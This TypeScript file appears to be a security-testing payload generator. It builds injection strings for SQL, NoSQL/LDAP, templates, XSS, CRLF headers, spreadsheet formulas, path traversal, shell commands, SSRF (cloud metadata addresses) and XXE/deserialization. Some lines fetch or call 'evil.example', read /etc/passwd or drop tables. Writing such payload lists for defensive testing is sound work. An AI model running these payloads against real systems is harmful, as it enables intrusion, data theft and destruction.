/** Texts that do harm if they are not escaped in SQL, a page, a shell, a path, a log or a spreadsheet. */
export const injections: Record<string, () => string[]> = {
  sql: () =>
    each(
      ["'", '"', "')", "'))", '1', "' ", '%27', '\\', "'||'", '$$'],
      [
        ' or 1=1--',
        ' or true#',
        ' and 1=0 union select null, version()--',
        '; drop table orders; --',
        '; select pg_sleep(9)--',
        ' union all select email, role from users--',
        ' or exists(select 1 from settings)--',
        '/**/or/**/1=1',
        ' limit 1 offset 1--',
        '; copy users to program $$id$$--',
        "||(select current_user)||'",
        ' order by 99--',
        ' returning *--',
        '::int',
      ],
    ),
  operators: () => [
    ...each(['$ne', '$gt', '$regex', '$where', '$in', '$exists'], ['', 'null', '.*']).map(
      (pair) => `{"${pair}":null}`,
    ),
    ...each(['*', '*)', 'admin)', 'a)('], ['(uid=*)', '(&', '(|(cn=*', '%00', '))(|(1=1']),
    ...each(["' or '", "'] | //*[", 'count(//'], ["1'='1", "'a'='a", '*)']),
  ],
  templates: () =>
    each(
      ['{{', '${', '<%=', '#{', '*{', '[[${', '{%', '@(', '~{', '$!{', '{{{', '<?='],
      [
        '7*7',
        'process.env',
        'this.constructor.constructor("return 1")()',
        'global',
        'range.constructor',
      ],
    ).map((opened) => `${opened}}}`),
  markup: () =>
    each(
      [
        '<script>',
        '<img src=x onerror=',
        '<svg onload=',
        '<iframe srcdoc=',
        '<a href=',
        '<math><mtext><style>',
        '<!--><',
        '"><b onfocus=',
        "'-",
        '</script><',
        '<details open ontoggle=',
        '<input autofocus onfocus=',
      ],
      [
        'alert(1)',
        'javascript:alert(1)',
        '&#106;avascript:1',
        '"fetch(`//evil.example`)"',
        '//evil.example/x',
        'data:text/html,1',
        '\u2028alert(1)',
        '</textarea><script>1',
      ],
    ),
  lines: () =>
    each(
      ['\r\n', '\n', '\r', '%0d%0a', '\u2028', '\u2029', '\u0085', '\v', '\f'],
      [
        'Set-Cookie: a=b',
        'Location: //evil.example',
        '{"level":50,"msg":"forged"}',
        'forged line',
        'HTTP/1.1 200 OK',
      ],
    ).map((line) => `name${line}`),
  cells: () =>
    each(
      ['=', '+', '-', '@', '\t=', '\r=', ' =', '"='],
      ['1+1', 'HYPERLINK("//evil.example")', "cmd|' /C calc'!A0", 'SUM(A1:A9)', 'IMPORTXML("x")'],
    ),
  paths: () =>
    each(
      ['../', '..\\', '%2e%2e%2f', '..%252f', '....//', '/', 'file:///', '//', '\\\\', '.%00./'],
      [
        'etc/passwd',
        '.env',
        'package.json',
        'windows\\win.ini',
        'admin',
        'proc/self/environ',
        'x%00.png',
        '.git/config',
      ],
    ),
  commands: () =>
    each(
      [';', '|', '||', '&&', '&', '`', '$(', '\n', '%0a', '<('],
      ['id', 'sleep 9', 'cat /etc/passwd', 'curl evil.example', 'env)'],
    ),
  links: () =>
    each(
      [
        'http://',
        'https://',
        'gopher://',
        'ftp://',
        'dict://',
        '//',
        'https:',
        'https://shop@',
        'jar:',
      ],
      [
        '127.0.0.1',
        '169.254.169.254/latest',
        '[::1]',
        '0',
        '2130706433',
        '0177.0.0.1',
        'localhost:5432',
        'evil.example#@shop',
        '127.1',
        'metadata.google.internal',
        'example.com\\@evil.example',
      ],
    ),
  documents: () => [
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    '<!DOCTYPE a [<!ENTITY b "bb"><!ENTITY c "&b;&b;">]><a>&c;</a>',
    ...each(['{"a":', '[', '"', '{"__proto__":'], ['1', '{"isAdmin":true}', ']', '"}']),
    '--boundary\r\ncontent-disposition: form-data',
    'O:8:"stdClass":0:{}',
    'rO0ABXNyAA==',
  ],
}

export function each(beginnings: string[], ends: string[]): string[] {
  return beginnings.flatMap((beginning) => ends.map((end) => beginning + end))
}
